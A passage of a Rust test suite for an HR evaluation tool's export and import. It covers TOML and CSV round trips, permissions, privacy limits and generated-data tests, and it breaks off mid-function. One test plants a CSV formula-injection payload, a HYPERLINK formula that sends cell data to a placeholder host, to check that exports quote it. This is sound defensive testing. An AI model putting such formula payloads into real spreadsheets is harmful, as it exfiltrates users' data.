//! HR export and import: the expected export of the sample, round trips (TOML and
//! back, CSV parsed back), independent parsers, `--force`, and who may do it.
//!
//! `UPDATE_EXPECTED=1 cargo test --locked -- export::` rewrites `tests/expected/*` from the
//! current output, so that a change of format is a deliberate, reviewed diff.

use crate::common;

use pdca::model::hash::HashMap;
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use assert_cmd::Command;
use predicates::prelude::*;
use proptest::prelude::*;

use common::sample_data as sample;
use pdca::r#gen::Fill;
use pdca::hr::export::{self, Export, Options};
use pdca::hr::table::Cells;
use pdca::hr::{import, table, validity};
use pdca::messages::Lang;
use pdca::model::{
    ActionItem, Category, Cycle, CycleData, DataSetInfo, Date, Decline, Difficulty, Extra, Feedback, FeedbackFile,
    Goal, GoalDetail, GoalsFile, Level, Metric, Org, Person, PlannedGoal, Proposal, SCHEMA_VERSION, ScoreFormula,
    SelfCheck, SheetRecord, Step, Timestamp, Unit, UnitKind,
};
use pdca::store::Store;

const EXPORT_TIME: &str = "2027-04-01T09:00:00+09:00";
const HR: &str = "P0007";
const NOT_HR: &str = "P0011";

fn pdca(data: &Path) -> Command {
    let mut command = common::pdca_cli(data);
    command.env("PDCA_EXPORT_TIME", EXPORT_TIME);
    command
}

fn export_of(data: &Path, extra: &[&str]) -> Vec<u8> {
    let output = pdca(data).args(["--as", HR, "export"]).args(extra).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

fn expected_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/expected").join(name)
}

/// Compares with a committed file, or rewrites it when `UPDATE_EXPECTED` is set.
fn assert_expected(name: &str, actual: &str) {
    let path = expected_path(name);
    if std::env::var_os("UPDATE_EXPECTED").is_some() {
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, actual).unwrap();
        return;
    }
    let expected = fs::read_to_string(&path)
        .unwrap_or_else(|_| panic!("{} is missing; run with UPDATE_EXPECTED=1 to create it", path.display()));
    if expected != actual {
        let line = expected.lines().zip(actual.lines()).position(|(a, b)| a != b).map_or(0, |i| i + 1);
        panic!(
            "the export differs from {} (first at line {line}); if the change is deliberate, \
             rerun with UPDATE_EXPECTED=1 and review the diff",
            path.display()
        );
    }
}

fn goal_count(data: &Path) -> (usize, usize) {
    let snapshot = Store::new(data).load(None).unwrap();
    (snapshot.org.people.len(), snapshot.data.goals.iter().map(|f| f.goals.len()).sum())
}

#[test]
fn the_sample_export_matches_the_expected_file() {
    let (_dir, data) = sample();
    let text = String::from_utf8(export_of(&data, &[])).unwrap();
    assert!(text.starts_with("schema = \"pdca-hr-export/2\"\ngenerated_at = 2027-04-01T09:00:00+09:00\n"), "{text}");
    assert_expected("sample-2026-export.toml", &text);
    // The same data gives the same bytes.
    assert_eq!(String::from_utf8(export_of(&data, &[])).unwrap(), text);
}

/// Engagement rows as the export carries them (generated data sets have none).
fn engagement() -> Vec<export::ExportEngagement> {
    let row = |unit: &str, question: &str, mean| export::ExportEngagement {
        unit: unit.into(),
        question: question.into(),
        mean,
        respondents: 7,
    };
    vec![row("U001", "q01", 3.5), row("U002", "q02", 4.25)]
}

/// Parts are made while the one before is written: they are still written in
/// order; a part that cannot be made stops the writing, and a write that fails
/// stops the making soon after.
#[test]
fn parts_are_written_in_order_and_a_failure_stops_both_sides() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let part = |i: usize| export::Part { texts: vec![format!("{i},").into()], people: 1, goals: 2 };
    let mut written = String::new();
    let counted = export::write_parts((0..100).map(|i| Ok::<_, String>(part(i))), |text| {
        written.push_str(text);
        Ok(())
    });
    assert_eq!(counted, Ok((100, 200)));
    assert_eq!(written, (0..100).map(|i| format!("{i},")).collect::<String>());

    let mut written = String::new();
    let parts = (0..100).map(|i| if i == 3 { Err("not made".to_owned()) } else { Ok(part(i)) });
    let result = export::write_parts(parts, |text| {
        written.push_str(text);
        Ok(())
    });
    assert_eq!((result, written.as_str()), (Err("not made".to_owned()), "0,1,2,"));

    let made = AtomicUsize::new(0);
    let parts = (0..100).map(|i| {
        made.fetch_add(1, Ordering::SeqCst);
        Ok(part(i))
    });
    let mut writes = 0;
    let result = export::write_parts(parts, |_| {
        writes += 1;
        if writes == 3 { Err("disk full".to_owned()) } else { Ok(()) }
    });
    assert_eq!(result, Err("disk full".to_owned()));
    assert!(made.load(Ordering::SeqCst) <= 6, "made {} parts", made.load(Ordering::SeqCst));
}

/// The export is written person by person on all cores, and in parts of
/// `PEOPLE_PER_PART` people: its bytes must be those of the whole document written
/// at once, whatever is in it or left out of it.
#[test]
fn the_export_written_in_parts_is_the_export_written_whole() {
    let generated_at = Timestamp(chrono::DateTime::parse_from_rfc3339(EXPORT_TIME).unwrap());
    let several_parts = 2 * export::PEOPLE_PER_PART + 10;
    for (people, fill) in [(1, Fill::Light), (40, Fill::Full), (several_parts, Fill::Light)] {
        let set = pdca::r#gen::generate_filled(people, 7, fill);
        let unit = set.org.units.last().map(|u| u.id.clone());
        for unit in [None, unit.as_deref()] {
            let export = export::build(&set.info, &set.org, &set.data, Options { generated_at, unit }).unwrap();
            let whole = toml::to_string(&export).unwrap();
            assert_eq!(export.to_toml().unwrap(), whole, "{people} people, {fill:?}, unit {unit:?}");
            let parts = export.toml_parts().count();
            assert_eq!(parts, 2 + export.people.len().div_ceil(export::PEOPLE_PER_PART), "heading, people, tail");
            // What `pdca export` writes: each part's records made as it is written.
            let prepared = export::prepare(&set.info, &set.org, &set.data, Options { generated_at, unit }).unwrap();
            let (mut text, mut counted) = (String::new(), (0, 0));
            for part in prepared.toml_parts() {
                let part = part.unwrap();
                part.texts.iter().for_each(|piece| text.push_str(piece));
                counted = (counted.0 + part.people, counted.1 + part.goals);
            }
            assert_eq!(text, whole, "made as written: {people} people, {fill:?}, unit {unit:?}");
            assert_eq!(counted, (export.people.len(), export.goal_count()));
            // The heading alone, and with what follows the people but no people.
            let mut bare = export.clone();
            (bare.units, bare.abilities, bare.people) = (Vec::new(), Vec::new(), Vec::new());
            (bare.engagement, bare.meetings) = (Vec::new(), Vec::new());
            assert_eq!(bare.to_toml().unwrap(), toml::to_string(&bare).unwrap(), "nothing but the heading");
            bare.meetings = export.meetings.clone();
            assert!(!bare.meetings.is_empty() || matches!(fill, Fill::Light));
            assert_eq!(bare.to_toml().unwrap(), toml::to_string(&bare).unwrap(), "the heading and 1on1s");
            (bare.engagement, bare.meetings) = (engagement(), Vec::new());
            assert_eq!(bare.to_toml().unwrap(), toml::to_string(&bare).unwrap(), "the heading and engagement");
            let mut everything = export.clone();
            everything.engagement = engagement();
            assert_eq!(everything.to_toml().unwrap(), toml::to_string(&everything).unwrap(), "with engagement");
        }
    }
}

#[test]
fn a_measured_metric_comes_back_from_an_export_with_its_source() {
    let (dir, data) = sample();
    let first = dir.path().join("first.toml");
    pdca(&data).args(["--as", HR, "export", "-o"]).arg(&first).assert().success();
    let exported: Export = toml::from_str(&fs::read_to_string(&first).unwrap()).unwrap();
    let metric = exported.people.iter().flat_map(|p| &p.goals).find(|g| g.id == "P0001-2026-1").unwrap();
    let metric = metric.metric.as_ref().unwrap();
    // Six people of 総務部 completed DX推進研修 in the sample.
    assert_eq!(
        (metric.current, metric.source.as_deref(), metric.course.as_deref()),
        (Some(6.0), Some("training"), Some("DX推進研修"))
    );
    let copy = dir.path().join("copy");
    pdca(&copy).args(["--as", HR, "import", "--identity", "demo", "--from-export"]).arg(&first).assert().success();
    let rebuilt = Store::new(&copy).read_goals_file("2026", "P0001").unwrap().unwrap();
    let rebuilt = rebuilt.goals[0].metric.as_ref().unwrap();
    // Measured again from the training entries the import rebuilt, not typed in.
    assert_eq!((rebuilt.current, rebuilt.source.as_deref()), (None, Some("training")));
    let again: Export = toml::from_str(&String::from_utf8(export_of(&copy, &[])).unwrap()).unwrap();
    let again = again.people.iter().flat_map(|p| &p.goals).find(|g| g.id == "P0001-2026-1").unwrap();
    assert_eq!(again.metric.as_ref().unwrap().current, Some(6.0));
}

#[test]
fn export_import_export_of_the_sample_is_byte_identical() {
    // The sample has every part of `/2`: ratings by all three raters, an adjustment,
    // 1on1s, training, engagement results and measured metrics.
    let (dir, data) = sample();
    let first = dir.path().join("first.toml");
    pdca(&data).args(["--as", HR, "export", "-o"]).arg(&first).assert().success().stdout("");
    let copy = dir.path().join("copy");
    pdca(&copy)
        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
        .arg(&first)
        .assert()
        .success()
        .stdout(predicate::str::contains("imported 23 people"));
    let second = export_of(&copy, &[]);
    assert_eq!(String::from_utf8(second).unwrap(), fs::read_to_string(&first).unwrap());
    // The rebuilt data set is valid, and as valid as the original.
    pdca(&copy).arg("check").assert().success().stdout(predicate::str::contains("0 error(s)"));
    // Importing again into a folder that holds a data set is refused.
    pdca(&copy)
        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
        .arg(&first)
        .assert()
        .failure()
        .stderr(predicate::str::contains("already holds a data set"));
}

/// 鳴海 翔 (P0011, 主事, 人事課) in the sample, checked by hand against the files.
#[test]
fn the_export_carries_both_halves_calibration_1on1s_training_and_engagement() {
    let (_dir, data) = sample();
    let text = String::from_utf8(export_of(&data, &[])).unwrap();
    let export: Export = toml::from_str(&text).unwrap();
    let narumi = export.people.iter().find(|p| p.id == "P0011").unwrap();

    // 能力評価: 12 abilities apply at 主事級 (no マネジメント能力, リーダーシップ力).
    assert_eq!(narumi.competency_group.map(|g| g.key()), Some("staff"));
    assert_eq!(narumi.competencies.len(), 12);
    let accuracy = narumi.competencies.iter().find(|c| c.id == "accuracy").unwrap();
    assert_eq!((&*accuracy.name, &*accuracy.group), ("正確性", "業務遂行の度合い"));
    assert_eq!(
        (accuracy.self_level, accuracy.reviewer_level, accuracy.second_level),
        (Some(Level::A), Some(Level::S), Some(Level::A))
    );
    assert_eq!(accuracy.second_comment, "照合の誤りがないことは担当として求められる水準であり、Aとする。");
    assert_eq!(narumi.second_reviewer.as_deref(), Some("P0001"));
    // Levels that count (second, else reviewer): S for understanding, planning, speed,
    // improvement, initiative; A for the other seven. (5×5 + 7×4) / 12 = 4.4167 → 4.42.
    assert_eq!(narumi.competency_score, Some(4.42));
    // Both goals reviewed A (4 points): 4.0. Overall 0.5 × 4.0 + 0.5 × 4.42 = 4.21 → A.
    assert_eq!(narumi.performance_score, Some(4.0));
    assert_eq!((narumi.score, narumi.level), (Some(4.21), Some(Level::A)));
    // HR's calibration set the final level to B; the score stays.
    assert_eq!((narumi.final_score, narumi.final_level), (Some(4.21), Some(Level::B)));
    assert_eq!(narumi.adjustments.len(), 1);
    let adjustment = &narumi.adjustments[0];
    assert_eq!(adjustment.by, HR);
    assert_eq!(adjustment.at.to_string(), "2026-11-19T16:00:00+09:00");
    assert_eq!((adjustment.from.map(|f| f.to_string()), adjustment.to.to_string()), (Some("A".into()), "B".into()));
    assert!(adjustment.reason.starts_with("評価調整会議（11月19日）による。"));

    // Two 1on1s with 佐々木 (P0003), the latest on 14 October; never their text.
    assert_eq!((narumi.meetings_count, narumi.last_meeting), (Some(2), Date::from_ymd(2026, 10, 14)));
    assert!(!text.contains("上級試験のオンライン受付の振り返り"), "a 1on1's agenda leaked");
    assert!(!text.contains("問い合わせの多かった項目をFAQにまとめたい"), "a 1on1's notes leaked");
    let trainings: Vec<(&str, String, bool, &str)> = narumi
        .trainings
        .iter()
        .map(|t| (t.course.as_str(), t.date.to_string(), t.completed, t.goal.as_str()))
        .collect();
    assert_eq!(
        trainings,
        [
            ("DX推進研修", "2026-09-30".to_owned(), true, "P0011-2026-1"),
            ("青森県自治研修所", "2026-09-30".to_owned(), true, "P0011-2026-2"),
        ]
    );

    // Engagement: 人事課's Q1 as imported; 行政経営改革課 had 4 respondents, under the
    // minimum of 5, so none of its rows is exported although the file holds them.
    let q1 = export.engagement.iter().find(|row| row.unit == "jinji" && row.question == "Q1").unwrap();
    assert_eq!((q1.mean, q1.respondents), (3.71, 14));
    let stored = fs::read_to_string(data.join("cycles/2026/engagement.toml")).unwrap();
    assert!(stored.contains("unit = \"gyoseikeiei-kaikaku\""));
    assert!(export.engagement.iter().all(|row| row.unit != "gyoseikeiei-kaikaku"));
    assert!(export.engagement.iter().all(|row| row.respondents >= 5));

    // The abilities CSV: one row per person and applicable ability.
    let (header, rows) = parse_csv(&export_of(&data, &["--format", "abilities-csv", "--lang", "en"]));
    assert_eq!(header, pdca::hr::ability_table::header(Lang::En));
    assert_eq!(rows, pdca::hr::ability_table::rows(&export, Lang::En));
    let row = rows.iter().find(|row| row[1] == "P0011" && row[5] == "accuracy").unwrap();
    assert_eq!((row[4].as_str(), row[8].as_str(), row[10].as_str(), row[12].as_str()), ("staff", "A", "S", "A"));
    let listed: usize = export.people.iter().map(|p| p.competencies.len()).sum();
    assert_eq!(rows.len(), listed);
}

/// An export of the first schema (goals only) is still read, and exports as `/2`
/// with the same people and goals.
#[test]
fn an_export_of_the_first_schema_still_imports() {
    let (dir, _data) = sample();
    let v1 = expected_path("sample-2026-export-v1.toml");
    let old: Export = toml::from_str(&fs::read_to_string(&v1).unwrap()).unwrap();
    assert_eq!(old.schema, export::SCHEMA_V1);
    let copy = dir.path().join("copy");
    pdca(&copy)
        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
        .arg(&v1)
        .assert()
        .success()
        .stdout(predicate::str::contains("imported 23 people and 58 goals"));
    let again: Export = toml::from_str(&String::from_utf8(export_of(&copy, &[])).unwrap()).unwrap();
    assert_eq!(again.schema, export::SCHEMA);
    let goals = |export: &Export| -> Vec<(String, Option<Level>, Option<Level>)> {
        let all = export.people.iter().flat_map(|p| &p.goals);
        all.map(|g| (g.id.to_string(), g.self_level, g.reviewer_level)).collect()
    };
    assert_eq!(goals(&again), goals(&old));
    // `/1` has no 能力評価: the overall score is the goals' score it carried.
    let narumi = |export: &Export| export.people.iter().find(|p| p.id == "P0011").unwrap().score;
    assert_eq!(narumi(&again), narumi(&old));
    assert!(again.people.iter().all(|p| p.competencies.is_empty()));
}

#[test]
fn revisions_and_changes_since_approval_go_into_the_export_and_come_back() {
    use pdca::model::command::Command;
    use pdca::model::edit::{Edit, GoalFields};
    let (dir, data) = sample();
    // P0020's sheet is approved: a goal's weight revised, another goal removed.
    let today = Date::from_ymd(2026, 11, 20).unwrap();
    let mut workspace = pdca::workspace::Workspace::open(Store::new(&data), None, "P0020".into(), today).unwrap();
    let goals = workspace.world.goals_of("P0020").to_vec();
    let reason = |text: &str| Some((today, text.to_owned()));
    let weight = goals[0].weight.unwrap() + 10;
    let fields = GoalFields { weight: Some(weight), ..GoalFields::of(&goals[0]).unwrap() };
    let update = Edit::UpdateGoal { goal: goals[0].id.clone(), fields, revision: reason("測定範囲の拡大") };
    workspace.execute(Command::Sheet(update)).unwrap();
    let remove = Edit::RemoveGoal { goal: goals[1].id.clone(), revision: reason("事業の中止") };
    workspace.execute(Command::Sheet(remove)).unwrap();

    let first = String::from_utf8(export_of(&data, &[])).unwrap();
    let parsed: Export = toml::from_str(&first).unwrap();
    let person = parsed.people.iter().find(|p| p.id == "P0020").unwrap();
    let removed = &person.revisions[0];
    assert_eq!((removed.goal.as_str(), removed.reason.as_str()), (goals[1].id.as_str(), "事業の中止"));
    let revised = person.goals.iter().find(|g| g.id == goals[0].id).unwrap();
    assert_eq!(revised.revisions[0].reason, "測定範囲の拡大");
    assert_eq!(revised.revisions[0].fields, ["weight"]);
    let changes: Vec<(&str, Option<&str>)> =
        person.changes_since_approval.iter().map(|c| (c.field.as_str(), c.after.as_deref())).collect();
    assert_eq!(changes, [("weight", Some(weight.to_string().as_str())), ("goal", None)]);

    // Back from the export, the same export.
    let file = dir.path().join("first.toml");
    fs::write(&file, &first).unwrap();
    let copy = dir.path().join("copy");
    pdca(&copy).args(["--as", HR, "import", "--identity", "demo", "--from-export"]).arg(&file).assert().success();
    assert_eq!(String::from_utf8(export_of(&copy, &[])).unwrap(), first);
}

#[test]
fn an_independent_parser_reads_the_same_people_and_goals() {
    let (_dir, data) = sample();
    let text = String::from_utf8(export_of(&data, &[])).unwrap();
    let (people, goals) = goal_count(&data);

    let document: toml_edit::DocumentMut = text.parse().unwrap();
    let listed = document["people"].as_array_of_tables().unwrap();
    assert_eq!(listed.len(), people);
    let listed_goals: usize =
        listed.iter().map(|p| p.get("goals").and_then(|g| g.as_array_of_tables()).map_or(0, |g| g.len())).sum();
    assert_eq!(listed_goals, goals);
    assert_eq!(document["schema"].as_str(), Some("pdca-hr-export/2"));
    let generated_at = document["generated_at"].as_value().and_then(|v| v.as_datetime());
    assert!(generated_at.is_some_and(|d| d.offset.is_some()), "an offset date-time");

    // Python's tomllib implements TOML 1.0 on its own; skip quietly without it.
    let probe = std::process::Command::new("python3").args(["-c", "import tomllib"]).output();
    if !probe.is_ok_and(|o| o.status.success()) {
        eprintln!("python3 with tomllib not found; skipping the Python TOML 1.0 check");
        return;
    }
    let script = "import sys, tomllib\n\
                  d = tomllib.load(sys.stdin.buffer)\n\
                  print(len(d['people']), sum(len(p.get('goals', [])) for p in d['people']))";
    let mut child = std::process::Command::new("python3")
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "tomllib refused the export: {}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(String::from_utf8(output.stdout).unwrap().trim(), format!("{people} {goals}"));
}

/// Parses CSV bytes back: checks the BOM and CRLF line ends, returns header and rows.
fn parse_csv(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF".as_slice()).expect("a UTF-8 byte-order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(body);
    let header = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    (header, rows)
}

#[test]
fn the_csv_export_parses_back_to_the_same_rows() {
    let (_dir, data) = sample();
    // Text that needs quoting: commas, quotes, a line break and a tab.
    let file = data.join("cycles/2026/goals/P0011.toml");
    let text = fs::read_to_string(&file).unwrap();
    let tricky = "説明, \\\"引用\\\" と\\n改行\\tタブ";
    let start = text.find("\ndescription = ").map(|i| i + 1).unwrap();
    let end = start + text[start..].find('\n').unwrap();
    fs::write(&file, format!("{}description = \"{tricky}\"{}", &text[..start], &text[end..])).unwrap();

    let toml_export: Export = toml::from_str(&String::from_utf8(export_of(&data, &[])).unwrap()).unwrap();
    for (flag, lang) in [("ja", Lang::Ja), ("en", Lang::En)] {
        let bytes = export_of(&data, &["--format", "csv", "--lang", flag]);
        let (header, rows) = parse_csv(&bytes);
        assert_eq!(header, table::header(lang));
        assert_eq!(rows, table::rows(&toml_export, lang, Cells::SpreadsheetSafe), "{flag}");
        // Every record ends in CRLF; line breaks inside a field stay as they were.
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.ends_with("\r\n"));
        assert_eq!(text.matches("\r\n").count(), rows.len() + 1, "one CRLF per record");
        let described: Vec<&Vec<String>> = rows.iter().filter(|row| row[12].contains("引用")).collect();
        assert_eq!(described.len(), 1);
        assert_eq!(described[0][12], "説明, \"引用\" と\n改行\tタブ");
    }
    // Japanese headers by default, whatever the terminal's language.
    let (header, _) = parse_csv(&export_of(&data, &["--format", "csv"]));
    assert_eq!(header[1], "職員番号");
    // One row per goal, plus one for each person without goals.
    let without_goals = toml_export.people.iter().filter(|p| p.goals.is_empty()).count();
    let (_, rows) = parse_csv(&export_of(&data, &["--format", "csv"]));
    assert_eq!(rows.len(), toml_export.goal_count() + without_goals);
}

#[test]
fn cells_a_spreadsheet_would_run_as_formulas_are_quoted_unless_raw() {
    let (_dir, data) = sample();
    let file = data.join("cycles/2026/goals/P0020.toml");
    let text = fs::read_to_string(&file).unwrap();
    let hostile = "=HYPERLINK(\\\"http://example.invalid/?\\\"&A1,\\\"更新\\\")";
    fs::write(&file, text.replacen("title = \"RPA導入効果の測定と報告\"", &format!("title = \"{hostile}\""), 1))
        .unwrap();
    let written = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"更新\")";
    let title_of = |bytes: &[u8]| {
        let (_, rows) = parse_csv(bytes);
        rows.into_iter().find(|row| row[10] == "P0020-2026-1").unwrap()[11].clone()
    };
    assert_eq!(title_of(&export_of(&data, &["--format", "csv"])), format!("'{written}"));
    assert_eq!(title_of(&export_of(&data, &["--format", "csv", "--raw"])), written);
    // The TOML export is data, not a spreadsheet: the title as it is.
    let toml_export: Export = toml::from_str(&String::from_utf8(export_of(&data, &[])).unwrap()).unwrap();
    let goal = toml_export.people.iter().flat_map(|p| &p.goals).find(|g| g.id == "P0020-2026-1").unwrap();
    assert_eq!(goal.title, written);
}

#[test]
fn contributions_of_leaf_goals_add_up_to_their_top_goals_progress() {
    let (_dir, data) = sample();
    let export: Export = toml::from_str(&String::from_utf8(export_of(&data, &[])).unwrap()).unwrap();
    let goals: Vec<&export::ExportGoal> = export.people.iter().flat_map(|p| &p.goals).collect();
    // Pending proposals are leaves too, but with no progress they add nothing.
    let has_sub_goals = |id: &str| goals.iter().any(|g| g.parent.as_deref() == Some(id));
    for top in goals.iter().filter(|g| g.parent.is_none()) {
        let leaves: f64 =
            goals.iter().filter(|g| g.top_goal == top.id && !has_sub_goals(&g.id)).map(|g| g.contribution).sum();
        // Each number is rounded to 4 decimals, so allow for that.
        assert!((leaves - top.progress).abs() < 0.001 * goals.len() as f64, "{}: {leaves} vs {}", top.id, top.progress);
        assert_eq!(top.cascade, std::slice::from_ref(&top.title));
        assert_eq!(top.planned_share, 100.0);
    }
}

#[test]
fn export_by_unit_and_to_a_file() {
    let (dir, data) = sample();
    let export: Export =
        toml::from_str(&String::from_utf8(export_of(&data, &["--unit", "johoseisaku"])).unwrap()).unwrap();
    assert!(!export.people.is_empty());
    assert!(export.people.iter().all(|p| p.unit_path[..2] == ["総務部".to_owned(), "情報政策課".to_owned()]));
    let units: Vec<&str> = export.units.iter().map(|u| u.id.as_str()).collect();
    assert_eq!(units, ["soumu", "johoseisaku", "johoseisaku-dx"]);
    pdca(&data)
        .args(["--as", HR, "export", "--unit", "nowhere"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("unknown unit `nowhere`"));
    let out = dir.path().join("out.csv");
    pdca(&data)
        .args(["--as", HR, "export", "--format", "csv", "-o"])
        .arg(&out)
        .assert()
        .success()
        .stdout("")
        .stderr(predicate::str::contains("23 people"));
    assert!(fs::read(&out).unwrap().starts_with(b"\xEF\xBB\xBF"));
}

#[test]
fn a_data_set_with_errors_is_refused_or_exported_in_part_with_force() {
    let (dir, data) = sample();
    fs::write(data.join("cycles/2026/goals/P0009.toml"), "owner = \"P0009\"\ncycle = \"2026\n").unwrap();
    let p0013 = data.join("cycles/2026/goals/P0013.toml");
    let text = fs::read_to_string(&p0013).unwrap().replacen("parent = \"P0012-2026-1\"", "parent = \"NO-SUCH\"", 1);
    fs::write(&p0013, text).unwrap();

    pdca(&data)
        .args(["--as", HR, "export"])
        .assert()
        .code(1)
        .stdout("")
        .stderr(predicate::str::contains("P0009.toml:2:"))
        .stderr(predicate::str::contains("names unknown goal `NO-SUCH`"))
        .stderr(predicate::str::contains("refusing to export"));

    let output = pdca(&data).args(["--as", HR, "export", "--force"]).output().unwrap();
    assert!(output.status.success());
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(stderr.contains("P0009.toml (does not parse)"), "{stderr}");
    assert!(stderr.contains("left out the parent link of goal P0013-2026-1"), "{stderr}");
    let export: Export = toml::from_str(&String::from_utf8(output.stdout).unwrap()).unwrap();
    let person = |id: &str| export.people.iter().find(|p| p.id == id).unwrap();
    assert!(person("P0009").goals.is_empty());
    let goal = person("P0013").goals.iter().find(|g| g.id == "P0013-2026-1").unwrap();
    assert_eq!((goal.parent.as_deref(), goal.top_goal.as_str()), (None, "P0013-2026-1"));

    // An export whose data would not be valid is refused on import too.
    let bad = dir.path().join("bad.toml");
    let mut export = export.clone();
    export.people[0].goals.first_mut().unwrap().parent = Some("NO-SUCH".into());
    fs::write(&bad, export.to_toml().unwrap()).unwrap();
    let copy = dir.path().join("copy");
    pdca(&copy)
        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
        .arg(&bad)
        .assert()
        .code(1)
        .stderr(predicate::str::contains("names unknown goal `NO-SUCH`"));
    assert!(!copy.join("pdca.toml").exists());
    pdca(&copy)
        .args(["--as", HR, "import", "--identity", "demo", "--force", "--from-export"])
        .arg(&bad)
        .assert()
        .success()
        .stderr(predicate::str::contains("left out the parent link"));
    pdca(&copy).arg("check").assert().success();
}

#[test]
fn a_malformed_export_is_refused_with_its_position() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("x.toml");
    fs::write(&file, "schema = \"pdca-hr-export/1\"\ngenerated_at = \n").unwrap();
    pdca(&dir.path().join("new"))
        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
        .arg(&file)
        .assert()
        .failure()
        .stderr(predicate::str::contains("x.toml:2:"));
    fs::write(&file, "schema = \"something-else/9\"\ngenerated_at = 2027-04-01T09:00:00+09:00\norganisation = \"x\"\n[cycle]\nid = \"1\"\nstart = 2026-04-01\nend = 2027-03-31\n").unwrap();
    pdca(&dir.path().join("new"))
        .args(["--as", HR, "import", "--identity", "demo", "--from-export"])
        .arg(&file)
        .assert()
        .failure()
        .stderr(predicate::str::contains("`schema` is `something-else/9`"));
}

#[test]
fn only_hr_may_export_or_import() {
    let (dir, data) = sample();
    for format in ["toml", "csv"] {
        pdca(&data)
            .args(["--as", NOT_HR, "export", "--format", format])
            .assert()
            .failure()
            .stdout("")
            .stderr(predicate::str::contains("P0011").and(predicate::str::contains("hr role")));
    }
    let file = dir.path().join("e.toml");
    fs::write(&file, export_of(&data, &[])).unwrap();
    let copy = dir.path().join("copy");
    pdca(&copy)
        .args(["--as", NOT_HR, "import", "--identity", "demo", "--from-export"])
        .arg(&file)
        .assert()
        .failure()
        .stderr(predicate::str::contains("P0011").and(predicate::str::contains("hr role")));
    assert!(!copy.exists() || fs::read_dir(&copy).unwrap().next().is_none(), "nothing written");
    pdca(&copy).args(["--as", HR, "import", "--identity", "demo", "--from-export"]).arg(&file).assert().success();
}

// ---------------------------------------------------------------------------------
// Round trip over generated data sets.

const CHARS: &[char] = &[
    'a', 'Z', '0', '9', ' ', ',', '"', '\'', '\\', '#', '=', '[', ']', '{', '}', '.', '-', '\t', '\n', 'あ', 'ん',
    'ア', 'ー', '漢', '字', '、', '。', '「', '」', '（', '）', '\u{3000}', '💡', '\u{200b}', '\u{feff}', 'é', '$',
];

fn text(len: std::ops::Range<usize>) -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(CHARS), len).prop_map(|chars| chars.into_iter().collect())
}

/// Mostly short text, sometimes a very long note (up to 16,000 characters).
fn note() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => text(0..30),
        1 => (text(1..20), 200..800usize).prop_map(|(piece, times)| piece.repeat(times)),
    ]
}

fn title() -> impl Strategy<Value = String> {
    text(1..60)
}

#[derive(Clone, Debug)]
struct PersonSpec {
    unit: prop::sample::Index,
    reviewer: Option<prop::sample::Index>,
    grade: Option<u8>,
    name: String,
    kana: Option<String>,
    title: String,
    hr: bool,
    steps: usize,
}

/// Issue, measure, due (days into the cycle), done, carried from an earlier cycle.
type ActionSpec = (String, String, Option<u64>, bool, bool);
/// Level, strengths, improvements, contribution, date (days into the cycle).
type ReviewSpec = (Option<Level>, String, String, String, Option<u64>);

#[derive(Clone, Debug)]
struct GoalSpec {
    owner: prop::sample::Index,
    parent: Option<prop::sample::Index>,
    /// Adopted from a proposal of the parent's owner, with this share.
    adopted: Option<Option<f64>>,
    title: String,
    description: String,
    criteria: String,
    progress: Option<u32>,
    metric: Option<(String, f64, f64, f64)>,
    weight: Option<u32>,
    due: Option<u64>,
    difficulty: Option<Difficulty>,
    category: Option<Category>,
    check: Option<(Level, String)>,
    actions: Vec<ActionSpec>,
    reviews: Vec<ReviewSpec>,
    carried: bool,
}

#[derive(Clone, Debug)]
struct OpenSpec {
    parent: prop::sample::Index,
    to: prop::sample::Index,
    title: String,
    note: String,
    share: Option<f64>,
    declined: Option<String>,
}

fn person_spec() -> impl Strategy<Value = PersonSpec> {
    (
        any::<prop::sample::Index>(),
        prop::option::weighted(0.8, any::<prop::sample::Index>()),
        prop::option::of(1u8..=8),
        text(1..12),
        prop::option::of(text(1..12)),
        text(0..8),
        prop::bool::weighted(0.2),
        0usize..=6,
    )
        .prop_map(|(unit, reviewer, grade, name, kana, title, hr, steps)| PersonSpec {
            unit,
            reviewer,
            grade,
            name,
            kana,
            title,
            hr,
            steps,
        })
}

fn level() -> impl Strategy<Value = Level> {
    prop::sample::select(Level::ALL.to_vec())
}

fn goal_spec() -> impl Strategy<Value = GoalSpec> {
    let plan = (
        any::<prop::sample::Index>(),
        prop::option::weighted(0.7, any::<prop::sample::Index>()),
        prop::option::weighted(0.6, prop::option::of(prop_oneof![0.0f64..10.0, (0u32..100).prop_map(f64::from)])),
        title(),
        note(),
        note(),
        prop::option::of(0u32..=100),
        prop::option::weighted(
            0.25,
            (text(0..4), -1000.0f64..1000.0, -1000.0f64..1000.0, -1000.0f64..1000.0)
                .prop_map(|(unit, start, target, current)| (unit, start, target, current)),
        ),
        prop::option::of(0u32..=100),
    );
    let rest = (
        prop::option::of(0u64..400),
        prop::option::of(prop::sample::select(Difficulty::ALL.to_vec())),
        prop::option::of(prop::sample::select(Category::ALL.to_vec())),
        prop::option::of((level(), note())),
